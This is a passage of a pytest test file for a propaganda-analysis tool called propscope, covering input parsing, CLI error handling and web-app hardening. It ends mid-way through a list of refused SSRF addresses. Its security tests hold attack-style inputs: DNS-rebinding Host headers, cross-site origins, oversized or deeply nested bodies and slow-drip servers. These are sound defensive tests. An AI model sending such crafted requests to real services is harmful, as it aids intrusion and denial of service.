    items = list(read_inputs([str(cut)]))
    assert [type(i) for i in items] == [Article, Article, Article, Rejected] and "inside a gzip member" in items[-1].reason


def test_archived_pages_are_read_in_the_charset_they_declare(tmp_path):
    """A WARC's HTML responses were decoded as UTF-8 only: a crawled windows-1252 or Shift JIS page
    (by its Content-Type header or its <meta>) was "not valid UTF-8; convert it", which no one can
    do to one record of an archive."""
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    pages = [("text/html; charset=windows-1252", _page("x", LATIN).replace('<meta charset="x">', ""), "cp1252"),
             ("text/html", _page("shift_jis", GENUINE["shift_jis"]), "shift_jis")]
    buf = io.BytesIO()
    w = WARCWriter(buf, gzip=True)
    for i, (content_type, page, charset) in enumerate(pages):
        headers = StatusAndHeaders("200 OK", [("Content-Type", content_type)], protocol="HTTP/1.1")
        w.write_record(w.create_warc_record(f"https://cs.example/{i}", "response", http_headers=headers,
                                            payload=io.BytesIO(page.encode(charset))))
    p = tmp_path / "crawl.warc.gz"
    p.write_bytes(buf.getvalue())
    western, japanese = read_inputs([str(p)])
    assert isinstance(western, Article) and western.text.startswith(LATIN.strip()), western
    assert isinstance(japanese, Article) and GENUINE["shift_jis"] in japanese.text, japanese


def test_complete_warc_gz_is_not_reported(tmp_path):
    p = tmp_path / "crawl.warc.gz"
    make_warc(p, 2)
    assert [type(i) for i in read_inputs([str(p)])] == [Article, Article]
    assert gzip.decompress(p.read_bytes())  # the fixture really is whole


def test_a_tag_with_a_hundred_thousand_attributes_is_read_in_seconds(tmp_path):
    """libxml2 compares each attribute with every earlier one of its tag: read_inputs on the first
    of these 0.9 MB pages was still running after 200 s before tame_tags."""
    import time

    text = "The harbour council voted the plan down again. " * 10
    for junk in ("a{i}=1", 'a{i}=">"', "a{i}"):  # quoted ">" and bare names do not slip past
        p = tmp_path / "attrs.html"
        p.write_text("<html><body><article><p " + " ".join(junk.format(i=i) for i in range(100_000))
                     + ' id="x">' + text + "</p></article></body></html>")
        start = time.monotonic()
        [a] = read_inputs([str(p)])
        assert time.monotonic() - start < 10 and isinstance(a, Article) and "harbour council" in a.text, junk


def test_ordinary_tags_are_left_as_they_are():
    page = ('<div class="a" data-x=\'{"k": ">"}\' hidden><img src="data:image/png;base64,' + "A" * 10_000
            + '" alt="x"/><p ' + " ".join(f"d{i}=1" for i in range(ingest.MAX_ATTRIBUTES)) + ">Text</p></div>")
    assert ingest.tame_tags(page) == page
    many = "<p " + " ".join(f"d{i}=1" for i in range(ingest.MAX_ATTRIBUTES + 5)) + ">Text</p>"
    assert ingest.tame_tags(many) == "<p " + " ".join(f"d{i}=1" for i in range(ingest.MAX_ATTRIBUTES)) + ">Text</p>"


def test_html_nested_past_what_libxml2_reads_is_one_line_in_bounded_time(tmp_path):
    """100,000 nested <div>s: libxml2 reads 2,048 levels at most, so the page is refused in one line
    saying so (it was "no article text found"), quickly, and the other inputs are stored."""
    import time

    (tmp_path / "deep.html").write_text("<html><body>" + "<div>" * 100_000 + "<p>Lost words.</p>" + "</div>" * 100_000
                                        + "</body></html>")
    (tmp_path / "fine.txt").write_text("A plain story about the harbour.")
    start = time.monotonic()
    r = cli("ingest", tmp_path, "--db", f"sqlite:///{tmp_path / 's.db'}", "--format", "json")
    assert time.monotonic() - start < 30
    assert r.exit_code == 1 and summary(r) == {"new": 1, "duplicates": 0, "rejected": 1}
    assert f"{tmp_path / 'deep.html'}: the HTML nests elements over 2,048 deep" in r.stderr
    assert len(r.stderr.strip().splitlines()) == 1


def test_csv_field_over_the_csv_module_limit_loses_nothing(tmp_path):
    p = tmp_path / "big.csv"
    long_field = "word " * 40_000  # 200,000 characters, over csv's default 131,072
    p.write_text(f'id,text\n1,"first"\n2,"{long_field}"\n3,"third"\n4,"fourth"\n')
    items = list(read_inputs([str(p)]))
    assert [i.id for i in items] == ["1", "2", "3", "4"] and items[1].text == long_field


# -- exit status and -o ---------------------------------------------------------------------
def test_ingest_exit_status(db_url, tmp_path):
    (tmp_path / "ok.txt").write_text("A good story.")
    assert cli("ingest", tmp_path / "ok.txt", "--db", db_url).exit_code == 0
    r = cli("ingest", tmp_path / "ok.txt", tmp_path / "missing.txt", "--db", db_url, "--format", "json")
    assert r.exit_code == 1 and summary(r) == {"new": 0, "duplicates": 1, "rejected": 1}


@pytest.mark.parametrize("command", [["analyze", "STORY"], ["export", "--format", "label-studio-config"],
                                     ["reuse", "STORY"]])
def test_output_to_a_missing_folder_is_one_line(tmp_path, command):
    story = tmp_path / "story.txt"
    story.write_text("A story about a bridge. " * 10)
    args = [str(story) if a == "STORY" else a for a in command]
    r = CliRunner().invoke(main, [*args, "-o", str(tmp_path / "no" / "such" / "out.json")])
    assert r.exit_code == 1 and not isinstance(r.exception, OSError)
    lines = [line for line in r.stderr.splitlines() if line.startswith("propscope:")]
    assert any("cannot write" in line and "No such file or directory" in line for line in lines)
    assert "Traceback" not in r.stderr


# -- stores that cannot be opened -----------------------------------------------------------
@pytest.mark.parametrize("url", ["mysql://user:s3cret@host/db", "http://example.com/x.db", "foo:://"])
def test_unsupported_database_url_is_one_line(url):
    """Other SQLAlchemy schemes used to end in a traceback (a driver we do not ship, or an
    AttributeError while reporting the error); the password never shows."""
    r = CliRunner().invoke(main, ["ingest", "-", "--db", url], input="A story.")
    assert r.exit_code == 1 and isinstance(r.exception, SystemExit)
    assert "give a SQLite path" in r.stderr and "s3cret" not in r.stderr


def test_store_from_a_newer_propscope_is_one_line(tmp_path):
    path = tmp_path / "new.db"
    Store(str(path)).engine.dispose()
    import sqlite3

    with sqlite3.connect(path) as conn:
        conn.execute("UPDATE alembic_version SET version_num = '9999_future'")
    for args in (["report"], ["ingest", "-"]):
        r = CliRunner().invoke(main, [*args, "--db", str(path)], input="A story.")
        assert r.exit_code == 1 and isinstance(r.exception, SystemExit)
        assert "9999_future" in r.stderr and "newer propscope" in r.stderr


@pytest.mark.parametrize("how", ["--db", "PROPSCOPE_DB"])
def test_a_blank_store_name_is_refused_not_made_a_file(tmp_path, monkeypatch, how):
    """`--db "  "` or PROPSCOPE_DB=" " made a store file called " " in the current folder."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "a.txt").write_text("A story.")
    for args in (["ingest", "a.txt"], ["report"]):
        if how == "--db":
            args = [*args, "--db", "  "]
        else:
            monkeypatch.setenv("PROPSCOPE_DB", " ")
        r = cli(*args)
        assert r.exit_code == 1, r.output
        assert "a blank name, not a file; check --db or $PROPSCOPE_DB" in r.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.txt"]


def test_no_home_folder_for_the_default_store_is_one_line(tmp_path, monkeypatch):
    """Run as a bare uid with $HOME unset (a container), Path.home() raises RuntimeError, and every
    command that opens the default store ended in a traceback."""
    def no_home() -> Path:
        raise RuntimeError("Could not determine home directory.")

    monkeypatch.delenv("PROPSCOPE_DB", raising=False)
    monkeypatch.setattr(Path, "home", staticmethod(no_home))
    (tmp_path / "a.txt").write_text("A story.")
    for args in (["report"], ["ingest", tmp_path / "a.txt"], ["search", "story", "--db"]):
        r = cli(*args)
        assert r.exit_code == 1, (args, r.output)
        assert r.stderr.startswith("propscope: no home folder to keep the default store in") and "$PROPSCOPE_DB" in r.stderr
    # the accurate model's base weights are unpacked into ~/.cache/propscope on first use
    from propscope import registry, weights

    monkeypatch.delenv("PROPSCOPE_CACHE", raising=False)
    monkeypatch.setattr(weights, "_find", lambda relative: tmp_path / "a.txt")  # as if the weight parts were installed
    registry.clear_cache()
    r = cli("analyze", tmp_path / "a.txt", "--model", "accurate")
    assert r.exit_code == 1 and "there is no home folder for it" in r.stderr and "set $PROPSCOPE_CACHE" in r.stderr


def _db_with_one_analysis(tmp_path, text: str) -> str:
    """A SQLite store holding article 'a1' with ``text`` and its analysis, closed for a test to damage."""
    db = str(tmp_path / "s.db")
    s = Store(db)
    s.add_articles([Article("a1", text)])
    s.save_analyses([(s.pk_of("a1"), fake_analysis(s.get_article("a1")))])
    s.engine.dispose()
    return db


@pytest.mark.parametrize("data, says, no_dict", [("not json", "not JSON: Expecting value", True),
                                                ("[1]", "JSON list, not an analysis", True),
                                                ('{"spans": []}', "no 'sentences' field", False)])
def test_a_stored_analysis_that_is_no_analysis_is_named_not_a_traceback(tmp_path, tiny_model, data, says, no_dict):
    """An analyses row damaged or written by another program was a JSONDecodeError or KeyError
    traceback from report and export, and a 500 from the web's article page and dashboard (the
    report and the dashboard read only a row's targets, so a row without sentences is no matter there)."""
    import html
    import sqlite3

    db = _db_with_one_analysis(tmp_path, "A story about the harbour.")
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE analyses SET data = ?", (data,))
    line = f"the stored analysis of article 'a1' cannot be read ({says}"
    for args in ([["report"]] if no_dict else []) + [["export"], ["export", "--format", "label-studio"]]:
        r = cli(*args, "--db", db)
        assert r.exit_code == 1 and r.stderr.startswith(f"propscope: {line}") and len(r.stderr.splitlines()) == 1, r.stderr
    with TestClient(create_app(db=db, model=str(tiny_model))) as c:
        for path in ("/api/articles/a1", "/dashboard") if no_dict else ("/api/articles/a1",):
            r = c.get(path)
            assert r.status_code == 503 and r.json()["detail"].startswith(line), path
        shown = c.get("/articles/a1", headers={"accept": "text/html"})
        assert shown.status_code == 503 and "The" + line[3:] in html.unescape(shown.text)


@pytest.mark.parametrize("field, value, says, report_reads", [
    ("targets", "Jane", "'targets' is a JSON string, not a list", True),
    ("targets", [{"targets": 5}], "'targets' in item 1 of 'targets' is a JSON number, not a list", True),
    ("targets", [{"targets": [{"text": "Jane"}]}], "no 'canonical' field in item 1 of 'targets' in item 1 of 'targets'",
     True),
    ("spans", [{"end": 4, "technique": "Loaded_Language", "score": 0.9}], "no 'start' field in item 1 of 'spans'", False),
    ("spans", [{"start": True, "end": 4, "technique": "Doubt", "score": 0.9}],
     "'start' in item 1 of 'spans' is a JSON true/false, not a number", False),
    ("entities", "Jane", "'entities' is a JSON string, not a list", False),
    ("quotes", [1], "item 1 of 'quotes' is a JSON number, not an object", False),
    ("notes", [None], "a note is a JSON null, not a string", False)])
def test_a_stored_analysis_with_a_wrongly_typed_nested_field_is_named_not_a_traceback(tmp_path, tiny_model, field,
                                                                                     value, says, report_reads):
    """A stored analysis whose nested fields have the wrong type ('targets' a string, a span
    without 'start', 'entities' a string) was a TypeError traceback from report, a KeyError or
    garbage from export, and a 500 from the article page and dashboard; it is named as a row that
    is no analysis is (the report reads only targets, so it still runs over a bad span)."""
    import html
    import sqlite3

    db = _db_with_one_analysis(tmp_path, "Jane Holloway said the harbour is a disgrace.")
    with sqlite3.connect(db) as conn:
        data = json.loads(conn.execute("SELECT data FROM analyses").fetchone()[0])
        conn.execute("UPDATE analyses SET data = ?", (json.dumps({**data, field: value}),))
        before = conn.execute("SELECT data FROM analyses").fetchone()[0]
    line = f"the stored analysis of article 'a1' cannot be read ({says}); "
    r = cli("report", "--db", db)
    if report_reads:
        assert r.exit_code == 1 and r.stderr.startswith(f"propscope: {line}") and len(r.stderr.splitlines()) == 1
    else:
        assert r.exit_code == 0, r.stderr
    for args in (["export"], ["export", "--format", "label-studio"]):
        r = cli(*args, "--db", db)
        assert r.exit_code == 1 and r.stderr.startswith(f"propscope: {line}") and len(r.stderr.splitlines()) == 1, r.stderr
    with TestClient(create_app(db=db, model=str(tiny_model))) as c:
        for path in ("/api/articles/a1", "/dashboard") if report_reads else ("/api/articles/a1",):
            r = c.get(path)
            assert r.status_code == 503 and r.json()["detail"].startswith(line), path
        if not report_reads:
            assert c.get("/dashboard").status_code == 200
        shown = c.get("/articles/a1", headers={"accept": "text/html"})
        assert shown.status_code == 503 and "The" + line[3:] in html.unescape(shown.text)
    with sqlite3.connect(db) as conn:
        assert conn.execute("SELECT data FROM analyses").fetchone()[0] == before


def _damaged_store(path: Path) -> bytes:
    """A SQLite store at ``path`` of 60 articles whose articles table's root page is then
    overwritten with junk (the file and its other tables intact, as a bad disk sector leaves
    them); returns the file's bytes."""
    import sqlite3

    s = Store(str(path))
    s.add_articles([Article(f"a{i}", f"Story {i} about the harbour and the rail strike. " * 20) for i in range(60)])
    s.engine.dispose()
    with sqlite3.connect(path) as conn:
        conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        root = conn.execute("SELECT rootpage FROM sqlite_master WHERE name = 'articles'").fetchone()[0]
        size = conn.execute("PRAGMA page_size").fetchone()[0]
    with open(path, "r+b") as f:
        f.seek((root - 1) * size)
        f.write(b"\xff" * size)
    return path.read_bytes()


def test_a_damaged_store_file_is_one_line_and_a_503_and_is_left_as_it_was(tmp_path, tiny_model):
    """A store file damaged after it was made (a bad sector, a copy cut short) was a traceback
    from search, report and export ("DatabaseError: database disk image is malformed"), ingest
    refused every article with it one by one, and the web answered 500."""
    path = tmp_path / "s.db"
    damaged = _damaged_store(path)
    for args in (["search", "harbour"], ["report"], ["export"], ["ingest", "-"]):
        r = cli(*args, "--db", path, input="A new story about the port.")
        assert r.exit_code == 1, (args, r.output)
        [line] = r.stderr.strip().splitlines()
        assert "database disk image is malformed" in line and "restore it from a backup" in line, (args, line)
    assert path.read_bytes() == damaged
    with TestClient(create_app(db=str(path), model=str(tiny_model))) as c:
        r = c.get("/api/articles")
        assert r.status_code == 503 and "the store file is damaged" in r.json()["detail"]
        r = c.get("/", headers={"accept": "text/html"})
        assert r.status_code == 503 and "restore it from a backup" in r.text
    assert path.read_bytes() == damaged


def test_a_weights_cache_that_cannot_be_made_is_one_line(tmp_path, monkeypatch):
    """The accurate model's base weights are unpacked on first use into $PROPSCOPE_CACHE (else
    ~/.cache/propscope); where that cannot be made, `analyze` and `serve` ended in a traceback
    (NotADirectoryError from mkdir), `serve` from inside the server's start."""
    from propscope import registry, weights

    (tmp_path / "a-file").write_text("not a folder")
    cache = tmp_path / "a-file" / "cache"
    monkeypatch.setenv("PROPSCOPE_CACHE", str(cache))
    monkeypatch.setattr(weights, "_find", lambda relative: tmp_path / "a.txt")  # as if the weight parts were installed
    registry.clear_cache()
    (tmp_path / "a.txt").write_text("They are traitors who want to destroy our great nation.")
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    for args in (["analyze", tmp_path / "a.txt", "--model", "accurate"],
                 ["serve", "--port", port, "--model", "accurate", "--db", tmp_path / "s.db"]):
        r = cli(*args)
        assert r.exit_code == 1, r.output
        [line] = r.stderr.strip().splitlines()
        assert line.startswith(f"propscope: cannot load model accurate: {cache}") and "set $PROPSCOPE_CACHE" in line, line


# -- the web app: PostgreSQL writes, NUL bytes, bodies, headers, origins, tokens ------------
@pytest.fixture()
def client(db_url, tiny_model):
    with TestClient(create_app(db=db_url, model=str(tiny_model))) as c:
        yield c


@pytest.mark.parametrize("article_id", ["https://news.example/story?id=5#top", "50% off", "a/b c"])
def test_links_reach_articles_whose_ids_hold_url_characters(db_url, tiny_model, article_id):
    """Feed entries, WARC records and analysed links are stored under their URL; a link that put
    the id in the path raw lost everything after "?" or "#" and led to a 404."""
    store = Store(db_url)
    a = Article(id=article_id, text="The harbour story, told once more by the traitors.", title="Harbour")
    store.save_analyses([(store.pk_of(store.put_article(a).id), fake_analysis(a))])
    with TestClient(create_app(db=db_url, model=str(tiny_model))) as c:
        for page in ("/", "/search", "/dashboard"):
            hrefs = re.findall(r'href="(/articles/[^"]*)"', c.get(page).text)
            assert hrefs, page
            for href in hrefs:
                r = c.get(href.replace("&amp;", "&"), headers={"accept": "text/html"})
                assert r.status_code == 200 and "Harbour" in r.text, (page, href)


def test_fifty_concurrent_posts_of_one_text(client):
    text = "The same report, posted by fifty hands at once: the plan was a disgrace."
    with cf.ThreadPoolExecutor(max_workers=50) as pool:
        results = list(pool.map(lambda _: client.post("/api/analyze", json={"text": text}), range(50)))
    assert [r.status_code for r in results] == [200] * 50
    assert len({r.json()["id"] for r in results}) == 1
    listing = client.get("/api/articles").json()
    assert listing["total"] == 1
    spans = client.get(f"/api/articles/{results[0].json()['id']}").json()["spans"]
    assert len(spans) == len({(s["start"], s["end"], s["technique"]) for s in spans})  # no doubled spans


@pytest.mark.parametrize("path", ["/api/articles?q=a%00b", "/api/articles?outlet=%00", "/api/articles/x%00y",
                                  "/search?q=%00", "/api/reuse?article=a%00"])
def test_nul_in_the_url_is_a_422(client, path):
    r = client.get(path)
    assert r.status_code == 422 and "NUL" in r.json()["detail"][0]["msg"]


@pytest.mark.parametrize("body", [
    b'{"text": "A NUL \\u0000 in the text."}', b'{"text": "A lone \\ud800 surrogate."}',
    b'{"text": "Fine text.", "title": ["a list"]}', b'{"url": 42}', b'{"text": "Fine.", "outlet": "\\u0000"}'])
def test_unstorable_api_bodies_are_4xx(client, body):
    r = client.post("/api/analyze", content=body, headers={"content-type": "application/json"})
    assert 400 <= r.status_code < 500 and "detail" in r.json()
    assert client.get("/api/articles").json()["total"] == 0


@pytest.mark.parametrize(("body", "says"), [
    ('{"text": "Caf\xe9 owners protest."}'.encode("latin-1"), "not UTF-8 JSON (byte 0xe9 at offset 13)"),
    (b"[" * 100_000 + b"]" * 100_000, "nested too deeply"),
    (b'{"text": ' + b"[" * 5_000 + b"]" * 5_000 + b"}", "nested too deeply"),
    (b'{"text": "A story.", "title": ' + b"9" * 5_000 + b"}", "more digits than Python reads (4,300)"),
    (gzip.compress(b'{"text": "A story."}', mtime=0), "gzip-compressed, and this server reads no Content-Encoding")])
def test_a_json_body_that_cannot_be_read_says_why(client, body, says):
    """FastAPI's own reply was a bare "There was an error parsing the body"; a gzipped body (curl
    --compressed, a client's Content-Encoding: gzip) was "not UTF-8 JSON (byte 0x8b at offset 1)"."""
    r = client.post("/api/analyze", content=body, headers={"content-type": "application/json"})
    assert r.status_code == 400 and says in r.json()["detail"]
    assert client.get("/api/articles").json()["total"] == 0


def test_form_with_nul_is_4xx_not_500(client):
    r = client.post("/analyze", data={"text": "A form text with a NUL \x00 inside."}, follow_redirects=False)
    assert 200 <= r.status_code < 500 and r.status_code != 303
    assert client.get("/api/articles").json()["total"] == 0


def alert(page) -> str:
    """The error line of an HTML page, unescaped."""
    import html

    found = re.search(r'role="alert">(.*?)</p>', page.text, re.S)
    return html.unescape(found.group(1)) if found else ""


def test_the_page_form_posts_multipart_and_the_endpoint_reads_it(client):
    """The page posts raw UTF-8 (multipart), a third of the URL-encoded size of a non-Latin text;
    a field sent as a file (curl -F text=@story.txt) is read as its text."""
    assert 'enctype="multipart/form-data"' in client.get("/").text
    text = "Власти снова солгали народу. Позор предателям."
    r = client.post("/analyze", files={"text": (None, text), "title": (None, "Заголовок")}, follow_redirects=False)
    assert r.status_code == 303
    stored = client.get(r.headers["location"].replace("/articles/", "/api/articles/")).json()["article"]
    assert stored["text"] == text and stored["title"] == "Заголовок"
    r = client.post("/analyze", files={"text": ("story.txt", "\ufeffA story from a file.".encode())},
                    follow_redirects=False)
    assert r.status_code == 303
    assert client.get(r.headers["location"].replace("/articles/", "/api/articles/")).json()["article"]["text"] == (
        "A story from a file.")


@pytest.mark.parametrize(("kwargs", "status", "says"), [
    ({"files": {"text": ("story.txt", "Caf\xe9 owners protest.".encode("latin-1"))}}, 400,
     "'story.txt' is not UTF-8 text (byte 3)"),
    ({"content": b"text=x", "headers": {"content-type": "multipart/form-data"}}, 400, "boundary"),
    ({"json": {"text": "A JSON story."}}, 400, "programs can post JSON to /api/analyze"),
    ({"files": {"text": (None, "word " * 220_000)}}, 400, "longer than 1,000,000 characters"),
    ({"files": {"text": (None, "A NUL \x00 inside.")}}, 400, "NUL character"),
    ({"data": {"text": "A text.", "url": "https://example.com/a"}}, 400, "not both"),
    ({"data": {"url": "ftp://example.com/a"}}, 400, "must start with http:// or https://"),
    ({"content": b"text=Caf%E9+owners+protest.", "headers": {"content-type": "application/x-www-form-urlencoded"}},
     400, "The form's fields are not UTF-8 text (byte 0xe9)"),
    ({"files": {"text": ("story.txt.gz", gzip.compress(b"A story."))}}, 400,
     "'story.txt.gz' is gzip-compressed; decompress it first")])
def test_a_form_post_that_cannot_be_used_is_the_page_with_the_reason(client, kwargs, status, says):
    """Was a JSON 400 or 422 (Starlette's 1 MB part limit too), or "Paste a text" for any fault; the
    page comes with a 4xx status, so scripts posting the form see the failure too. A URL-encoded
    form in windows-1252 was stored with U+FFFD for each accent, and a gzipped file was "not UTF-8"."""
    kwargs.setdefault("headers", {})["accept"] = "text/html"
    r = client.post("/analyze", follow_redirects=False, **kwargs)
    assert r.status_code == status and r.headers["content-type"].startswith("text/html")
    assert says in alert(r) and "<form" in r.text
    assert client.get("/api/articles").json()["total"] == 0


def test_a_form_over_the_body_limit_is_a_page_for_a_browser_and_json_for_the_api(client):
    big = {"text": (None, "слово " * 200_000)}
    page = client.post("/analyze", files=big, headers={"accept": "text/html"})
    assert page.status_code == 413 and "too long to send" in page.text and "propscope ingest" in page.text
    api = client.post("/api/analyze", content=b"x" * 2_100_000, headers={"accept": "text/html"})
    assert api.status_code == 413 and "request body over" in api.json()["detail"]


def test_chunked_body_over_the_limit_is_413_and_never_echoed(client):
    marker = b"ECHO-ME-" * 8

    def chunks():
        yield b'{"text": "'
        for _ in range(60):
            yield marker * 1000  # 60 x 64 KB = 3.8 MB, no Content-Length
        yield b'"}'

    r = client.post("/api/analyze", content=chunks(), headers={"content-type": "application/json"})
    assert r.status_code == 413 and b"ECHO-ME" not in r.content
    small = client.post("/api/analyze", content=b'{"text": ["ECHO-ME please"]}',
                        headers={"content-type": "application/json"})
    assert small.status_code == 422 and b"ECHO-ME" not in small.content
    broken = client.post("/api/analyze", content=b'{"text": "ECHO-ME', headers={"content-type": "application/json"})
    assert broken.status_code == 422 and b"ECHO-ME" not in broken.content


def test_security_headers_on_every_response(client):
    for r in (client.get("/"), client.get("/api/articles"), client.get("/static/app.js"), client.get("/nope"),
              client.get("/docs"), client.post("/api/analyze", content=b"x" * 2_100_000)):
        h = r.headers
        assert h["content-security-policy"] == CSP and h["x-content-type-options"] == "nosniff", r.url
        assert h["x-frame-options"] == "DENY" and h["referrer-policy"] == "same-origin"
    script_src = re.search(r"script-src ([^;]*)", CSP).group(1)
    assert script_src == "'self'" and "frame-ancestors 'none'" in CSP and "http" not in CSP


def test_an_unexpected_error_is_a_500_with_the_security_headers(tmp_path, tiny_model, monkeypatch):
    from propscope.store import Store

    def broken(*args, **kwargs):
        raise RuntimeError("internal detail")

    monkeypatch.setattr(Store, "list_articles", broken)
    app = create_app(db=str(tmp_path / "s.db"), model=str(tiny_model))
    with TestClient(app, raise_server_exceptions=False) as c:
        for r in (c.get("/api/articles"), c.get("/", headers={"accept": "text/html"})):
            assert r.status_code == 500 and "internal detail" not in r.text, r.url
            assert r.headers["content-security-policy"] == CSP and r.headers["x-frame-options"] == "DENY", r.url
            assert r.headers["x-content-type-options"] == "nosniff" and r.headers["referrer-policy"] == "same-origin"
    with TestClient(app) as c, pytest.raises(RuntimeError, match="internal detail"):
        c.get("/api/articles")  # still raised, for the server's log


def test_a_store_that_refuses_writes_is_a_503_for_the_web_and_keeps_what_it_holds(tmp_path, tiny_model, monkeypatch):
    """A read-only store answered a post with 400, as if the article were at fault."""
    import sqlite3

    import sqlalchemy as sa

    from propscope.store import Store

    app = create_app(db=str(tmp_path / "s.db"), model=str(tiny_model))
    with TestClient(app, raise_server_exceptions=False) as c:
        assert c.post("/api/analyze", json={"text": "A stored story about traitors."}).status_code == 200

        def read_only(*args, **kwargs):
            raise sa.exc.OperationalError("INSERT", {}, sqlite3.OperationalError("attempt to write a readonly database"))

        monkeypatch.setattr(Store, "_insert_rows", read_only)
        r = c.post("/api/analyze", json={"text": "A new story about traitors."})
        assert r.status_code == 503, r.text
        assert r.json()["detail"] == "cannot write to the store: OperationalError: attempt to write a readonly database"
        assert c.get("/api/articles").json()["total"] == 1


def test_pages_hold_no_inline_script(client):
    """The CSP forbids inline script, so a page that had one would break: none may."""
    client.post("/api/analyze", json={"text": "They are traitors. Everyone knows it.", "title": "T"})
    article = client.get("/api/articles").json()["articles"][0]["id"]
    for path in ("/", "/search?q=traitors", "/dashboard", "/reuse", f"/articles/{article}", "/docs", "/redoc"):
        html = client.get(path).text
        for tag in re.findall(r"<script\b[^>]*>", html, re.I):
            assert "src=" in tag or 'type="application/json"' in tag, (path, tag)
        assert not re.search(r"<[^>]+\son[a-z]+\s*=", html, re.I), path
        assert not re.search(r"""<(?:script|img|link|iframe)\b[^>]*(?:src|href)=["']?(?:https?:)?//""", html,
                             re.I), path  # nothing loaded from another host


def test_only_the_served_host_names_are_accepted(db_url, tiny_model):
    with TestClient(create_app(db=db_url, model=str(tiny_model), allowed_hosts=served_hosts("127.0.0.1")),
                    base_url="http://127.0.0.1:8000") as c:
        assert c.get("/api/articles").status_code == 200
        assert c.get("/api/articles", headers={"host": "localhost:8000"}).status_code == 200
        r = c.get("/api/articles", headers={"host": "rebind.attacker.example:8000"})
        assert r.status_code == 400 and "unknown host" in r.json()["detail"]
    assert served_hosts("0.0.0.0") is None and "news.example" in served_hosts("0.0.0.0", ["news.example"])


@pytest.mark.parametrize("headers", [{"origin": "http://evil.example"}, {"origin": "null"},
                                     {"referer": "http://evil.example/page.html"}, {"sec-fetch-site": "cross-site"}])
def test_cross_site_form_post_stores_nothing_without_a_token(client, headers):
    r = client.post("/analyze", data={"text": "Planted by another site."}, headers=headers, follow_redirects=False)
    assert r.status_code == 403
    assert client.get("/api/articles").json()["total"] == 0
    same = client.post("/analyze", data={"text": "Sent from our own page."}, follow_redirects=False,
                       headers={"origin": "http://testserver", "sec-fetch-site": "same-origin"})
    assert same.status_code == 303


@pytest.mark.parametrize("auth", [b"Bearer \xff\xfe\xe9", "s3cret", "Basic s3cret", "Bearer", "bearer  wrong", ""])
def test_bad_authorization_is_401(db_url, tiny_model, auth):
    with TestClient(create_app(db=db_url, model=str(tiny_model), token="s3cret")) as c:
        r = c.post("/api/analyze", json={"text": "Hello there."}, headers={"authorization": auth})
        assert r.status_code == 401
        form = c.post("/analyze", data={"text": "Hello there.", "token": "s3cr\u00e9t"}, follow_redirects=False)
        assert form.status_code == 401
        assert c.get("/api/articles").json()["total"] == 0
        ok = c.post("/api/analyze", json={"text": "Hello there."}, headers={"authorization": "bearer s3cret"})
        assert ok.status_code == 200


def test_web_analyses_a_text_over_spacys_limit(client, monkeypatch):
    monkeypatch.setattr(sources.nlp(), "max_length", 2_000)
    r = client.post("/api/analyze", json={"text": long_text(30)})
    assert r.status_code == 200 and r.json()["attributions"]
    assert client.get(f"/api/articles/{r.json()['id']}").status_code == 200


class FeedHandler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):  # noqa: N802
        self.send_response(200)
        self.send_header("Content-Type", "application/rss+xml")
        self.end_headers()
        self.wfile.write(b'<?xml version="1.0"?><rss version="2.0"><channel><title>Empty</title></channel></rss>')

    def log_message(self, *args):
        pass


def serve(handler) -> tuple[http.server.ThreadingHTTPServer, int]:
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    return httpd, httpd.server_address[1]


class DripHandler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):  # noqa: N802
        import time

        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        try:
            for _ in range(600):  # a minute of bytes, each read well inside the timeout
                self.wfile.write(b"<p>drip</p>\n")
                self.wfile.flush()
                time.sleep(0.1)
        except OSError:
            pass

    def log_message(self, *args):
        pass


class HeaderDripHandler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):  # noqa: N802
        import time

        self.wfile.write(b"HTTP/1.1 200 OK\r\nX-Slow: ")
        try:
            for _ in range(600):  # one byte of a header line that never ends, each in time for a read
                self.wfile.write(b"a")
                self.wfile.flush()
                time.sleep(0.1)
        except OSError:
            pass

    def log_message(self, *args):
        pass


@pytest.mark.parametrize("handler", [DripHandler, HeaderDripHandler])
def test_a_server_dripping_its_page_is_given_up_on(handler):
    """httpx's timeout is for each read: a server sending a few bytes every second, of its page
    or of its headers, kept `propscope ingest URL` waiting (still running when killed after 40 s
    and 90 s; 10,000 drips are hours)."""
    import time

    httpd, port = serve(handler)
    try:
        start = time.monotonic()
        with pytest.raises(fetch.FetchError, match=r"took over 1\.2 s to send its page"):
            fetch.fetch(f"http://127.0.0.1:{port}/", timeout=0.3, allow_private=True)
        assert time.monotonic() - start < 10
    finally:
        httpd.shutdown()


def test_empty_feed_url_is_a_clear_4xx(db_url, tiny_model):
    httpd, port = serve(FeedHandler)
    try:
        with TestClient(create_app(db=db_url, model=str(tiny_model), allow_private_urls=True)) as c:
            r = c.post("/api/analyze", json={"url": f"http://127.0.0.1:{port}/feed.xml"})
    finally:
        httpd.shutdown()
    assert r.status_code == 400 and "no article" in r.json()["detail"]


# -- SSRF: every hop checked, the checked address pinned --------------------------------------
def stub_resolver(monkeypatch, answers: dict[str, list[str]]) -> list[str]:
    """Replace DNS (``socket.getaddrinfo``) for the names in ``answers``: each lookup takes the
    next answer of its list (the last one repeats). Other names (IP literals) resolve as usual."""
    asked: list[str] = []
    real = socket.getaddrinfo

    def getaddrinfo(host, port, *args, **kwargs):
        name = host.decode() if isinstance(host, bytes) else host
        if name not in answers:
            return real(host, port, *args, **kwargs)
        asked.append(name)
        queue = answers[name]
        addr = ipaddress.ip_address(queue.pop(0) if len(queue) > 1 else queue[0])
        family, sockaddr = ((socket.AF_INET, (str(addr), port)) if addr.version == 4
                            else (socket.AF_INET6, (str(addr), port, 0, 0)))
        return [(family, socket.SOCK_STREAM, socket.IPPROTO_TCP, "", sockaddr)]

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    return asked


REFUSED = ["100.64.0.1", "100.127.255.254", "2002:a00:1::1", "2002:7f00:1::", "2002:c0a8:101::1", "fec0::1",
